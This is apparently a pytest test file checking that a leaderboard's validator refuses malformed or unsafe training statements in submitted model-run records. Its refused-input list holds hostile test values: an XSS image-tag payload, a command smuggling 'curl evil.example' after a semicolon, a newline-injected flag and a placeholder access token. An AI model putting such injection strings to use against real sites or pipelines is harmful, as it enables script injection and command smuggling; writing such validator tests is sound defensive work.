"""Training statements of submitted runs: the form is verified, the texts are harmless, a replay compares them."""

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from harness.cli import main
from harness.errors import UserError
from harness.runs.run import Run
from leaderboard.create_record import TRAINING_LEFT_OUT, prepared_record, public_facts
from leaderboard.records import RECORDS, digest_of, find_records, place_of, read_record, record_files
from leaderboard.replay.rerun import load_recorded_model
from leaderboard.verification.verify_record import verify_record
from tests.leaderboard.record_edits import SUBMISSION, edit, make_consistent, make_record, only_run, resign
from tests.support import models
from tests.support.recipes import STATEMENT, write_recipe

MARKUP = "<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A model with a recipe. Read-only."""
    folder = models.save_tiny(tmp_path_factory.mktemp("models") / "tiny", models.gpt2_like())
    write_recipe(folder)
    return folder


@pytest.fixture(scope="module")
def run(folder: Path) -> Path:
    """Its run. Read-only."""
    output = folder.parent / "runs"
    assert main(["eval", "--model", str(folder), "--task", "flipflop", "--limit", "2", "--output", str(output)]) == 0
    return only_run(output).folder


def reasons(run: Path, records: Path, training: Any) -> str:
    """Returns why a record with another training statement is refused, "" if it is accepted."""
    shutil.rmtree(records)
    records.mkdir()
    draft = make_record(run, records)
    edit(draft / "run.json", public_facts)
    make_consistent(draft)
    for name in ("run.json", "result.json"):
        edit(draft / name, lambda facts: facts | {"model": facts["model"] | {"training": training}})
    # As `resign`, which cannot read a faulty record.
    copy = Run(draft, json.loads((draft / "run.json").read_text(encoding="utf-8")))
    place = records / place_of(copy, digest_of(draft, record_files(copy)))
    place.parent.mkdir(parents=True, exist_ok=True)
    return "; ".join(verify_record(draft.rename(place), records).reasons)


def test_submitted_run_states_the_training(run: Path) -> None:
    with prepared_record(run, SUBMISSION) as ready:
        assert ready.record.run.facts["model"]["training"] == STATEMENT
        assert ready.result["model"]["training"] == STATEMENT and ready.remarks == ()


@pytest.mark.parametrize(
    "change",
    [
        {},
        {"changes": {}},
        {"changes": {"optimizer.learning_rate": 1e-3, "model.layers": 2, "data.mixture": [0.5, None, True, "dense"]}},
        {"data_seed": 2**63 - 1, "weight_seed": 0},
        {"command": "harness train"},
        {"recipe": "Flip_flop-2.small"},
    ],
)
def test_valid_statements_are_accepted(run: Path, records: Path, change: dict[str, Any]) -> None:
    assert reasons(run, records, STATEMENT | change) == ""


@pytest.mark.parametrize(
    "training",
    [
        None,
        {},
        [],
        {name: value for name, value in STATEMENT.items() if name != "digest"},
        *(STATEMENT | {name: MARKUP} for name in STATEMENT),
        STATEMENT | {"note": MARKUP},
        STATEMENT | {"note": "x"},
        STATEMENT | {"data_seed": 1.0},
        STATEMENT | {"weight_seed": True},
        STATEMENT | {"weight_seed": -1},
        STATEMENT | {"data_seed": 2**63},
        STATEMENT | {"digest": "f" * 13},
        STATEMENT | {"command": "harness train small; curl evil.example"},
        STATEMENT | {"command": f"harness train '{MARKUP}'"},
        STATEMENT | {"command": "harness train small\n--push org/x"},
        STATEMENT | {"command": "harness train small --output /home/name/small"},
        STATEMENT | {"command": "harness train small --hub-token hf_aaaaaaaaaaaaaaaaaaaaaaaa"},
        STATEMENT | {"changes": {"model.x": MARKUP}},
        STATEMENT | {"changes": {MARKUP: 1}},
        STATEMENT | {"changes": {"model.x": ["/home/name/x"]}},
        STATEMENT | {"changes": {"model.x": "a\u202eb"}},
        STATEMENT | {"changes": {"model.x": {"changes": 0.5}}},
        STATEMENT | {"changes": {f"k{number}": 1 for number in range(41)}},
        STATEMENT | {"changes": {"model.x": [0] * 17}},
        STATEMENT | {"changes": {f"k{number}": "y " * 90 for number in range(30)}},
    ],
    ids=range(30),
)
def test_faulty_statements_are_refused(run: Path, records: Path, training: Any) -> None:
    reason = reasons(run, records, training)
    assert reason.startswith(("run.json, model", "run.json, run.json", "a key of run.json")) and "training" in reason
    assert reason.isascii() and len(reason) < 500


def test_statement_about_other_weights_is_refused(run: Path, records: Path) -> None:
    """Weights in another format, or with an adapter, are not what the recipe trained."""
    draft = make_record(run, records)
    edit(draft / "run.json", lambda facts: public_facts(facts) | {"model": facts["model"] | {"gguf_file": "tiny.gguf"}})
    edit(draft / "run.json", lambda facts: facts | {"command": f"{facts['command']} --gguf-file tiny.gguf"})
    make_consistent(draft)
    assert "training: GGUF" in "".join(verify_record(resign(draft, records), records).reasons)


@pytest.mark.parametrize(
    "change",
    [{"changes": {"data.note": MARKUP}}, {"command": "harness train small --hub-token hf_aaaaaaaaaaaaaaaaaaaaaaaa"},
     {"changes": {"data.file": "see file:/home/name/x"}}],
)  # fmt: skip
def test_submission_leaves_out_a_statement_that_no_record_may_have(
    run: Path, tmp_path: Path, change: dict[str, Any]
) -> None:
    """The weights cannot be published under another recipe.json, so the run is not refused because of it."""
    copy = Path(shutil.copytree(run, tmp_path / "run"))
    edit(copy / "run.json", lambda facts: facts | {"model": facts["model"] | {"training": STATEMENT | change}})
    with prepared_record(copy, SUBMISSION) as ready:
        assert "training" not in ready.record.run.facts["model"] and ready.remarks == (TRAINING_LEFT_OUT,)


def test_replay_compares_the_statement(run: Path, folder: Path, tmp_path: Path) -> None:
    facts = json.loads((run / "run.json").read_text(encoding="utf-8"))
    record = read_record(make_record(run, tmp_path / "records"))
    assert load_recorded_model(record.run, record.run.jobs(), str(folder))
    record.run.facts["model"]["training"] = facts["model"]["training"] | {"weight_seed": 7}
    with pytest.raises(UserError, match=r"the training is .* was recorded"):
        load_recorded_model(record.run, record.run.jobs(), str(folder))


def test_records_without_a_statement_stay_valid() -> None:
    record = next(find_records())
    assert "training" not in record.run.facts["model"] and verify_record(record.folder, RECORDS, new=False).accepted
